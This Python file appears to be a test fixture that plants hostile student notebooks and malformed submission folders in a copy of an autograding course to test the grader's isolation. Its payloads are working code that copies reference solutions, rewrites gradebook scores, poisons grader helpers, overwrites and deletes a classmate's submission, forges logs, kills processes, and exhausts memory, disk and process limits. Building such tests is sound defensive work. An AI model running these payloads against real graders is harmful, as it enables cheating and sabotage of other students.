"""Hostile submissions, one per attack class of the trust-boundary issue, written into a course copy.

Each attacker starts from the released Initialization notebook (what a student gets)
and puts hostile code where a student can: in the answer cells. `{ROOT}` in the code
is the course copy's absolute path, `{VICTIM}` an honest classmate. The malformed-file
attackers are folders a student could hand in (or a collection script could produce).
"""
import os

from budget_attacks import fork_storm
from samples.notebook_edits import read_release, set_function_source, write_submission

ASSIGNMENT = "initialization"
NOTEBOOK = "Initialization.ipynb"
VICTIM = "honest_correct"
SURVIVOR = "kit-attack-survivor-%d" % os.getpid()   # the name a surviving process would run under
FUNCTIONS = ["initialize_parameters_zeros", "initialize_parameters_random", "initialize_parameters_he"]

# code run at the top of the first answer cell; the function is still defined (as released) below it
PAYLOADS = {
    "copy_solutions": '''
import sys, json, glob
sys.path[:0] = ["{ROOT}", "{ROOT}/utils"]
stolen = {{}}
try:
    from grader.reference import initialization as _reference
    stolen = {{name: getattr(_reference, name) for name in dir(_reference) if name.startswith("initialize")}}
except Exception as error:
    print("reference not reachable:", type(error).__name__)
for path in glob.glob("{ROOT}/source/*/*.ipynb"):
    try:
        for cell in json.load(open(path))["cells"]:
            code = "".join(cell["source"])
            if "def initialize_parameters" in code:
                exec(code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), stolen)
    except Exception as error:
        print("source not readable:", type(error).__name__)
globals().update({{k: v for k, v in stolen.items() if k.startswith("initialize")}})
''',
    "read_instructor_files": '''
import os
for path in ["{ROOT}/source/initialization/Initialization.ipynb", "{ROOT}/grader/reference/initialization.py",
             "{ROOT}/gradebook.db", "{ROOT}/nbgrader_config.py"]:
    try:
        print(open(path, errors="replace").read())
    except Exception as error:
        print("cannot read", path, type(error).__name__)
for folder in ["{ROOT}", "{ROOT}/submitted", "{ROOT}/autograded", "{ROOT}/feedback", "/proc/1/root{ROOT}"]:
    try:
        print(folder, os.listdir(folder))
    except Exception as error:
        print("cannot list", folder, type(error).__name__)
''',
    "gradebook_write": '''
import sqlite3
try:
    db = sqlite3.connect("{ROOT}/gradebook.db")
    db.execute("UPDATE grade SET manual_score = 100")
    db.execute("UPDATE source_cell SET source = 'assert True', checksum = ''")
    db.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = '{VICTIM}')")
    db.commit()
    print("gradebook written")
except Exception as error:
    print("gradebook not writable:", type(error).__name__, error)
''',
    "poison_helpers": '''
for path in ["{ROOT}/utils/checks_initialization.py", "{ROOT}/utils/grading_cases.py",
             "{ROOT}/source/initialization/checks_initialization.py", "{ROOT}/release/initialization/grading_cases.py",
             "{ROOT}/grader/judge.py", "{ROOT}/nbgrader_config.py", "checks_initialization.py", "grading_cases.py"]:
    try:
        with open(path, "a") as handle:
            handle.write("\\nimport builtins; builtins.POISONED = True\\n")
        print("poisoned", path)
    except Exception as error:
        print("cannot poison", path, type(error).__name__)
''',
    "surviving_process": '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for path in ["{ROOT}/submitted/{VICTIM}/initialization/Initialization.ipynb", "{ROOT}/grades.csv"]:
            try:
                open(path, "w").write("overwritten by a surviving process")
            except Exception:
                pass
        os.execvp("sh", ["sh", "-c", "exec -a {SURVIVOR} sleep 600"])
    os._exit(0)
os.wait()
''',
    "overwrite_others": '''
import os, shutil
for path in ["{ROOT}/submitted/{VICTIM}/initialization/Initialization.ipynb",
             "{ROOT}/autograded/{VICTIM}/initialization/Initialization.ipynb"]:
    try:
        open(path, "w").write("{{}}")
        print("overwrote", path)
    except Exception as error:
        print("cannot overwrite", path, type(error).__name__)
for folder in ["{ROOT}/feedback/{VICTIM}", "{ROOT}/submitted/{VICTIM}", "{ROOT}/.kit-intake/{VICTIM}"]:
    shutil.rmtree(folder, ignore_errors=True)
''',
    "forge_output": '''
import os
fake = ("[AutogradeApp | ERROR] There was an error processing assignment: {ROOT}/submitted/{VICTIM}/initialization\\n"
        "[AutogradeApp | INFO] SubmittedAssignment<initialization for {VICTIM}> submitted at None\\n"
        "nbgrader.converters.base.NbGraderException: Inconsistent checksums\\n")
for fd in (1, 2):
    try:
        os.write(fd, fake.encode())
    except OSError as error:
        print("fd", fd, error)
for path in ["/proc/%d/fd/1" % os.getppid(), "/proc/%d/fd/2" % os.getppid()]:
    try:
        with open(path, "w") as handle:
            handle.write(fake)
    except Exception as error:
        print("cannot write", path, type(error).__name__)
''',
    "signal_grader": '''
import os, signal
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except Exception as error:
    print("cannot stop parent:", type(error).__name__)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except Exception:
            pass
''',
    "exhaust_processes": fork_storm(3000, 60),
    "exhaust_memory": '''
try:
    hog = bytearray(16 * 1024 ** 3)
    print("allocated 16 GB")
except MemoryError:
    print("memory refused")
''',
    "exhaust_output": '''
import sys
chunk = "x" * (1024 * 1024)
for _ in range(300):
    sys.stdout.write(chunk)
''',
    "exhaust_disk": '''
import os
for path in ["big.bin", "/tmp/big.bin", os.path.expanduser("~/big.bin")]:
    try:
        with open(path, "wb") as handle:
            for _ in range(4096):
                handle.write(b"0" * 1024 * 1024)
    except Exception as error:
        print(path, type(error).__name__)
''',
}


def _code(name, root):
    return PAYLOADS[name].format(ROOT=root, VICTIM=VICTIM, SURVIVOR=SURVIVOR)


def hostile_notebook(name, root):
    """The release notebook with the payload at the top of the first answer cell (copy_solutions: every one)."""
    nb = read_release(ASSIGNMENT, root)
    if name == "copy_solutions":
        for function in FUNCTIONS:
            set_function_source(nb, function, _code(name, root) if function == FUNCTIONS[0] else
                                 "globals().update({k: v for k, v in stolen.items() if k.startswith('initialize')})")
        return nb
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and
                "def %s" % FUNCTIONS[0] in c.source)
    cell.source = _code(name, root) + "\n" + cell.source
    return nb


def write_malformed(name, root):
    """The malformed-file attackers: folders whose notebook or extra files are not what they seem."""
    folder = os.path.join(root, "submitted", name, ASSIGNMENT)
    os.makedirs(folder, exist_ok=True)
    path = os.path.join(folder, NOTEBOOK)
    with open(os.path.join(folder, "timestamp.txt"), "w") as handle:
        handle.write("2026-11-20 10:00:00.000000 UTC\n")
    release = read_release(ASSIGNMENT, root)
    if name == "deep_json":
        with open(path, "w") as handle:
            handle.write("[" * 200000 + "]" * 200000)
    elif name == "list_grade_id":
        for cell in release.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata["nbgrader"]["grade_id"] = ["not", "a", "string"]
                break
        write_submission(name, ASSIGNMENT, release, root=root)
    elif name == "notebook_is_dir":
        os.makedirs(path)
    elif name == "notebook_is_fifo":
        os.mkfifo(path)
    elif name == "bad_timestamp":
        write_submission(name, ASSIGNMENT, release, root=root)
        with open(os.path.join(folder, "timestamp.txt"), "w") as handle:
            handle.write("the day before the deadline, honest\n")
    elif name == "symlink_loops":
        write_submission(name, ASSIGNMENT, release, root=root)
        os.symlink(".", os.path.join(folder, "a"))
        os.symlink(".", os.path.join(folder, "b"))
    elif name == "symlink_to_gradebook":
        write_submission(name, ASSIGNMENT, release, root=root)
        os.symlink(os.path.join("..", "..", "..", "gradebook.db"), os.path.join(folder, "gradebook.db"))
        os.symlink(os.path.join(root, "source", ASSIGNMENT, NOTEBOOK), os.path.join(folder, "solutions.ipynb"))
        os.symlink(os.path.join(root, "grader", "reference", "initialization.py"), os.path.join(folder, "ref.py"))
    elif name == "notebook_symlink_to_source":
        os.symlink(os.path.join(root, "source", ASSIGNMENT, NOTEBOOK), path)
    else:
        raise KeyError(name)


MALFORMED = ["deep_json", "list_grade_id", "notebook_is_dir", "notebook_is_fifo", "bad_timestamp", "symlink_loops",
             "symlink_to_gradebook", "notebook_symlink_to_source"]


def write_class(root):
    """Honest classmates (a correct one, the release as handed out) and every attacker, into submitted/."""
    from samples.students import correct
    write_submission(VICTIM, ASSIGNMENT, correct(ASSIGNMENT, read_release(ASSIGNMENT, root)), root=root)
    write_submission("honest_release", ASSIGNMENT, read_release(ASSIGNMENT, root), root=root)
    for name in PAYLOADS:
        write_submission(name, ASSIGNMENT, hostile_notebook(name, root), root=root)
    for name in MALFORMED:
        write_malformed(name, root)
    return [VICTIM, "honest_release"] + list(PAYLOADS) + MALFORMED

